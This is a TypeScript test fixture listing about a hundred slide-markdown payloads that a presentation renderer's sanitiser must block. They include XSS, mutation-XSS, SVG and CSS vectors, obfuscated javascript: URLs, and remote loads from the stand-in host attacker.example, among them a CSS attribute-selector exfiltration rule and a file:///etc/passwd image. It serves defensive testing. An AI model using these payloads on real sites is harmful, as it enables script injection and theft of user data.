// Script-injection and network-escape attempts a slide author (or a pasted slide) might
// contain. Each is one slide; none may run script or make the page load anything from
// outside the deck folder. Shared by the unit suite and the browser suite.

export interface Attempt {
  name: string;
  markdown: string;
  /** Read as text or a relative path from the start (nothing to remove, so nothing to report). */
  inert?: true;
}

/** An SVG file in the attacking deck, referenced by several attempts. */
export const evilSvg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50" onload="window.__pwned='svg-onload'">
  <script>window.__pwned = 'svg-script'</script>
  <style>@import url(https://attacker.example/x.css); body { background: url(https://attacker.example/bg.png) }</style>
  <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.__pwned='fo'"/></body></foreignObject>
  <a xlink:href="javascript:window.__pwned='svg-a'"><text x="5" y="20" onclick="window.__pwned='svg-click'">click</text></a>
  <image href="https://attacker.example/i.png" width="10" height="10"/>
  <use href="https://attacker.example/sprite.svg#x"/>
  <rect width="10" height="10" fill="url(https://attacker.example/p.svg#g)" style="fill:url(https://attacker.example/s.svg#g)"/>
  <set attributeName="onmouseover" to="window.__pwned='set'"/>
  <animate attributeName="href" to="javascript:window.__pwned='animate'"/>
</svg>`;

export const injectionAttempts: Attempt[] = [
  { name: 'script tag', markdown: '<script>window.__pwned = "script"; alert(1)</script>' },
  { name: 'script tag, odd casing and attributes', markdown: '<ScRiPt type="text/javascript">window.__pwned = 1</sCrIpT>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror, upper case and slash separator', markdown: '<IMG SRC="x" ONERROR="window.__pwned=2"> <img/src="x"/OnErRoR="alert(1)">' },
  { name: 'event handlers on ordinary tags', markdown: '<p onmouseover="window.__pwned=3" onclick="alert(1)" style="display:block;height:600px">hover me</p>' },
  { name: 'autofocus onfocus', markdown: '<input autofocus onfocus="window.__pwned=4"><details open ontoggle="alert(1)">x</details>' },
  { name: 'body/svg onload', markdown: '<body onload="alert(1)"><svg onload="window.__pwned=5"></svg>' },
  { name: 'javascript: link', markdown: '<a href="javascript:window.__pwned=6">click</a>' },
  { name: 'javascript: with entities, tab and newline', markdown: '<a href="jav&#x09;ascript:alert(1)">a</a> <a href="&#106;avascript:alert(1)">b</a> <a href="java\nscript:alert(1)">c</a> <a href=" &#14; javascript:alert(1)">d</a>' },
  { name: 'vbscript and data:text/html links', markdown: '<a href="vbscript:msgbox(1)">v</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>' },
  { name: 'markdown link to javascript:', markdown: '[click me](javascript:alert(1)) [and me](JAVASCRIPT:alert(1) "t") [ref]\n\n[ref]: javascript:alert(1)' },
  { name: 'autolinks', markdown: '<javascript:alert(1)> <vbscript:x> <data:text/html,x>' },
  { name: 'iframe and srcdoc', markdown: '<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe><iframe src="https://attacker.example"></iframe>' },
  { name: 'object, embed', markdown: '<object data="https://attacker.example/x.swf"></object><embed src="javascript:alert(1)">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://attacker.example">' },
  { name: 'base href', markdown: '<base href="https://attacker.example/">\n\n![relative](pic.png)' },
  { name: 'link stylesheet and style import', markdown: '<link rel="stylesheet" href="https://attacker.example/x.css"><style>@import "https://attacker.example/y.css"; .reveal{background:url(https://attacker.example/z.png)}</style>' },
  { name: 'form posting away', markdown: '<form action="https://attacker.example"><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'remote images', markdown: '![remote](https://attacker.example/a.png) <img src="//attacker.example/b.png"> <img src="\\\\attacker.example\\c.png"> <img srcset="https://attacker.example/d.png 2x">' },
  { name: 'remote video, audio, poster, source', markdown: '<video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png"></video><audio><source src="http://attacker.example/a.mp3"></audio>' },
  { name: 'lazy data-src picked up by reveal.js', markdown: '<img data-src="https://attacker.example/lazy.png"><video data-src="https://attacker.example/lazy.mp4"></video>' },
  { name: 'inline style loading a remote picture', markdown: '<div style="background-image:url(https://attacker.example/s.png);width:100px;height:100px">x</div><div style="background:u\\72l(https://attacker.example/t.png)">y</div>' },
  { name: '.slide: background iframe with javascript:', markdown: '<!-- .slide: data-background-iframe="javascript:parent.__pwned=8" -->\n# iframe' },
  { name: '.slide: remote background image and video', markdown: '<!-- .slide: data-background-image="https://attacker.example/bg.png" data-background-video="https://attacker.example/bg.mp4" -->\n# bg' },
  { name: '.slide: event handler and background shorthand', markdown: '<!-- .slide: onclick="window.__pwned=9" data-background="https://attacker.example/bg2.png" data-background-gradient="url(https://attacker.example/g.png)" -->\n# on' },
  { name: '.element: onclick and lazy source', markdown: 'click the paragraph\n<!-- .element: onclick="window.__pwned=10" data-src="https://attacker.example/e.png" style="height:500px" -->' },
  { name: 'HTML comment tricks', markdown: '<!-- --><script>window.__pwned=11</script><!-- -->\n\n<!--> <img src=x onerror=alert(1)> -->\n\n<!-- .element: class="x" --><img src=x onerror="window.__pwned=12">' },
  { name: 'malformed tags and attribute breaking', markdown: '<img src="x` `<script>window.__pwned=13</script>"` `>\n\n<a href="#" title="</a><img src=x onerror=alert(1)>">t</a>\n\n<<script>window.__pwned=14//<</script>' },
  { name: 'svg image file with script, handlers and remote references', markdown: '![diagram](evil.svg)' },
  { name: 'inline svg and math', markdown: '<svg><script>window.__pwned=15</script><a href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><img src=x onerror=alert(1)></mtext></math>' },
  { name: 'template and noscript parser differentials', markdown: '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'id clobbering the runtime settings', markdown: '<div id="deck-runtime">{"reveal":{}}</div><a id="deck-runtime" name="deck-runtime">x</a>' },
  { name: 'code fence cannot break out', markdown: '```html\n</code></pre><script>window.__pwned=16</script>\n```' },
  // Mutation XSS: markup that parses one way in the sanitiser and another in the browser.
  { name: 'mXSS: svg style holding an img', markdown: '<svg><style><img src=x onerror="window.__pwned=20"></style></svg>' },
  { name: 'mXSS: math style breakout', markdown: '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=21">' },
  { name: 'mXSS: noscript title', markdown: '<noscript><style></noscript><img src=x onerror="window.__pwned=22">' },
  { name: 'mXSS: noscript attribute breakout', markdown: '<noscript><a title="</noscript><img src=x onerror=window.__pwned=23>">x</a></noscript>' },
  { name: 'mXSS: template in svg', markdown: '<svg><template><img src=x onerror="window.__pwned=24"></template></svg>' },
  { name: 'mXSS: nested forms', markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__pwned=25">' },
  { name: 'mXSS: style in select', markdown: '<select><style></select><img src=x onerror="window.__pwned=26"></style></select>' },
  { name: 'mXSS: textarea closing', markdown: '<textarea></textarea><img src=x onerror="window.__pwned=27"></textarea>' },
  { name: 'mXSS: xmp and plaintext', markdown: '<xmp><img src=x onerror="window.__pwned=28"></xmp><plaintext><img src=x onerror=alert(1)>' },
  { name: 'mXSS: iframe text', markdown: '<iframe><img src=x onerror="window.__pwned=29"></iframe>' },
  { name: 'mXSS: comment with dashes', markdown: '<!--><img src=x onerror="window.__pwned=30">--><!--!><img src=x onerror=alert(1)>-->' },
  { name: 'mXSS: CDATA in svg', markdown: '<svg><![CDATA[><img src=x onerror="window.__pwned=31">]]></svg>' },
  { name: 'mXSS: foreignObject back to html', markdown: '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=32</script>"></iframe></foreignObject></svg>' },
  { name: 'mXSS: annotation-xml encoding html', markdown: '<math><annotation-xml encoding="text/html"><img src=x onerror="window.__pwned=33"></annotation-xml></math>' },
  { name: 'mXSS: desc in svg', markdown: '<svg><desc><img src=x onerror="window.__pwned=34"></desc></svg>' },
  { name: 'mXSS: title element in body', markdown: '<title><img src=x onerror="window.__pwned=35"></title>' },
  { name: 'mXSS: unclosed attribute quote', markdown: '<div title="a><img src=x onerror=window.__pwned=36>', inert: true },
  { name: 'mXSS: backtick attribute', markdown: '<img src=`x` onerror=`window.__pwned=37`>', inert: true },
  { name: 'mXSS: tag split by a tag', markdown: '<scr<script>ipt>window.__pwned=38</scr</script>ipt>' },
  { name: 'mXSS: attribute without space', markdown: '<img src="x"onerror="window.__pwned=39">', inert: true },
  // Inline SVG.
  { name: 'svg: use with remote href', markdown: '<svg><use href="https://attacker.example/s.svg#a"/></svg>' },
  { name: 'svg: use with data: href', markdown: '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0ieCIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x"/></svg>' },
  { name: 'svg: animate href to javascript:', markdown: '<svg><a><animate attributeName="href" values="javascript:window.__pwned=40"/><text y="20">x</text></a></svg>' },
  { name: 'svg: set xlink:href', markdown: '<svg><a><set attributeName="xlink:href" to="javascript:window.__pwned=41"/><text y="20">x</text></a></svg>' },
  { name: 'svg: xlink:href javascript', markdown: '<svg><a xlink:href="javascript:window.__pwned=42"><text y="20">x</text></a></svg>' },
  { name: 'svg: script href', markdown: '<svg><script href="data:text/javascript,window.__pwned=43"></script></svg>' },
  { name: 'svg: feImage remote', markdown: '<svg><filter id="f"><feImage href="https://attacker.example/f.png"/></filter></svg>' },
  { name: 'svg: onbegin on animate', markdown: '<svg><animate onbegin="window.__pwned=44" attributeName="x" dur="1s"/></svg>' },
  { name: 'svg: handler via handler attribute', markdown: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">window.__pwned=45</handler></svg>' },
  { name: 'svg: image element', markdown: '<svg><image href="https://attacker.example/i.png" onerror="window.__pwned=46"/></svg>' },
  { name: 'svg: fill url remote', markdown: '<svg><rect width="9" height="9" fill="url(https://attacker.example/p.svg#g)"/></svg>' },
  { name: 'svg image file with use and entities', markdown: '![evil](evil.svg) <img src="evil.svg" onload="window.__pwned=47">' },
  // CSS that loads or runs.
  { name: 'css: url() in style attribute, escaped', markdown: '<p style="background:\\75\\72\\6c(https://attacker.example/e.png)">x</p>' },
  { name: 'css: url() with comment in between', markdown: '<p style="background:url/**/(https://attacker.example/c.png)">x</p>' },
  { name: 'css: image-set', markdown: '<p style="background-image:image-set(\'https://attacker.example/s.png\' 1x)">x</p>' },
  { name: 'css: @import in style attribute', markdown: '<p style="@import \'https://attacker.example/i.css\'">x</p>' },
  { name: 'css: expression and behavior', markdown: '<p style="width:expression(window.__pwned=48);behavior:url(x.htc)">x</p>' },
  { name: 'css: -moz-binding', markdown: '<p style="-moz-binding:url(https://attacker.example/b.xml#x)">x</p>' },
  { name: 'css: font-face via style element', markdown: '<style>@font-face{font-family:x;src:url(https://attacker.example/f.woff2)}</style>' },
  { name: 'css: attribute selector exfiltration', markdown: '<style>input[value^=a]{background:url(https://attacker.example/?a)}</style>' },
  { name: 'css: .element style with url', markdown: 'text\n<!-- .element: style="background:url(https://attacker.example/el.png)" -->' },
  { name: 'css: .slide gradient with url', markdown: '<!-- .slide: data-background-gradient="url(https://attacker.example/g2.png)" data-background-color="url(https://attacker.example/c.png)" -->\n# g' },
  // Page-level elements.
  { name: 'meta refresh to javascript:', markdown: '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=50">' },
  { name: 'meta CSP override', markdown: '<meta http-equiv="Content-Security-Policy" content="default-src *">' },
  { name: 'base href with target', markdown: '<base href="javascript:/a/" target="_top">\n\n[rel](pic.png)' },
  { name: 'link preload and icon', markdown: '<link rel="preload" href="https://attacker.example/p.js" as="script"><link rel="icon" href="https://attacker.example/i.ico">' },
  { name: 'link dns-prefetch and prerender', markdown: '<link rel="dns-prefetch" href="//attacker.example"><link rel="prerender" href="https://attacker.example/">' },
  { name: 'form with formaction and input image', markdown: '<form action="javascript:window.__pwned=51"><input type="image" src="https://attacker.example/b.png"><input type="submit"></form>' },
  { name: 'isindex and keygen', markdown: '<isindex action="javascript:alert(1)"><keygen autofocus onfocus="window.__pwned=52">' },
  { name: 'iframe srcdoc with entities', markdown: '<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=53&gt;"></iframe>' },
  { name: 'iframe data: URL', markdown: '<iframe src="data:text/html,<script>parent.__pwned=54</script>"></iframe>' },
  { name: 'object with data: html', markdown: '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD01NTwvc2NyaXB0Pg=="></object>' },
  { name: 'embed svg', markdown: '<embed src="evil.svg" type="image/svg+xml">' },
  { name: 'portal and fencedframe', markdown: '<portal src="https://attacker.example/"></portal><fencedframe src="https://attacker.example/"></fencedframe>' },
  { name: 'video with onerror and remote track', markdown: '<video src="x" onerror="window.__pwned=56"><track src="https://attacker.example/t.vtt"></video>' },
  { name: 'audio with event handler and source', markdown: '<audio controls onplay="window.__pwned=57"><source src="//attacker.example/a.ogg"></audio>' },
  { name: 'picture with remote srcset', markdown: '<picture><source srcset="https://attacker.example/p.webp"><img src="pic.png"></picture>' },
  { name: 'img srcset and lowsrc', markdown: '<img src="pic.png" srcset="https://attacker.example/a.png 2x" lowsrc="https://attacker.example/l.png">' },
  { name: 'body background attribute', markdown: '<table background="https://attacker.example/t.png"><tr><td background="https://attacker.example/d.png">x</td></tr></table>' },
  { name: 'a ping', markdown: '<a href="#x" ping="https://attacker.example/ping">p</a>' },
  { name: 'details ontoggle and dialog', markdown: '<details open ontoggle="window.__pwned=58"><summary>s</summary></details><dialog open onclose="alert(1)">d</dialog>' },
  { name: 'marquee and blink handlers', markdown: '<marquee onstart="window.__pwned=59">m</marquee>' },
  { name: 'contenteditable and autofocus', markdown: '<div contenteditable autofocus onfocus="window.__pwned=60">e</div>' },
  // URL schemes in links and images, encoded every way.
  { name: 'entity-encoded javascript: without semicolons', markdown: '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">a</a>' },
  { name: 'hex entity javascript: with padding', markdown: '<a href="&#x0000006A;avascript:window.__pwned=61">a</a>' },
  { name: 'named entity colon', markdown: '<a href="javascript&colon;window.__pwned=62">a</a> <a href="java&Tab;script:alert(1)">b</a> <a href="java&NewLine;script:alert(1)">c</a>' },
  { name: 'unicode-escaped javascript in markdown link', markdown: '[a](\\u006aavascript:alert(1)) [b](%6Aavascript:alert(1)) [c](jav\u000bascript:alert(1))', inert: true },
  { name: 'fullwidth and zero-width in scheme', markdown: '<a href="ｊavascript:alert(1)">a</a> <a href="java\u200bscript:alert(1)">b</a>', inert: true },
  { name: 'markdown image with javascript: and data:', markdown: '![a](javascript:window.__pwned=63) ![b](data:text/html,<script>alert(1)</script>) ![c](vbscript:x)' },
  { name: 'markdown image with remote URL and title', markdown: '![a](https://attacker.example/m.png "title") ![b](//attacker.example/n.png)' },
  { name: 'markdown reference image remote', markdown: '![ref][r]\n\n[r]: https://attacker.example/r.png' },
  { name: 'markdown link title breakout', markdown: '[a](https://example.com "\\"><img src=x onerror=window.__pwned=64>")', inert: true },
  { name: 'markdown link text with html', markdown: '[<img src=x onerror="window.__pwned=65">](https://example.com)' },
  { name: 'data: image that is not an image', markdown: '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">' },
  { name: 'data: image smuggling a url', markdown: '<!-- .slide: data-background-image="data:image/png;base64,AAAA), url(https://attacker.example/smuggle.png" -->\n# smuggle' },
  { name: 'data: background shorthand', markdown: '<!-- .slide: data-background="url(https://attacker.example/bg3.png)" -->\n# bg' },
  { name: 'file: and blob: sources', markdown: '<img src="file:///etc/passwd"><img src="blob:https://attacker.example/x"><video src="filesystem:x"></video>' },
  { name: 'protocol-relative with backslashes and tabs', markdown: '<img src="/\\attacker.example/a.png"><img src="\t//attacker.example/b.png"><img src="https:attacker.example/c.png">' },
  { name: 'slide attributes: preview and lazy loading', markdown: '<!-- .slide: data-preview-link="https://attacker.example" data-preview-image="https://attacker.example/pi.png" data-background-video="https://attacker.example/v.mp4,x.mp4" -->\n# p' },
  { name: '.element: on an image, href and src', markdown: '![p](pic.png)\n<!-- .element: src="https://attacker.example/x.png" data-src="https://attacker.example/y.png" href="javascript:alert(1)" -->' },
  { name: 'ids and names clobbering the runtime', markdown: '<div id="deckHost">x</div><form name="getElementById"></form><img name="querySelector" src="pic.png"><a id="Reveal">r</a>' },
  { name: 'notes with script and fixed overlay', markdown: 'body\n\nNote:\n<script>window.__pwned=66</script><p style="position:fixed;inset:0">cover</p><img src=x onerror="window.__pwned=67">' },
  { name: 'html in code span and fence info', markdown: '`<img src=x onerror=alert(1)>`\n\n```"><img src=x onerror="window.__pwned=68">\nx\n```\n\n<script>1</script>' },
];
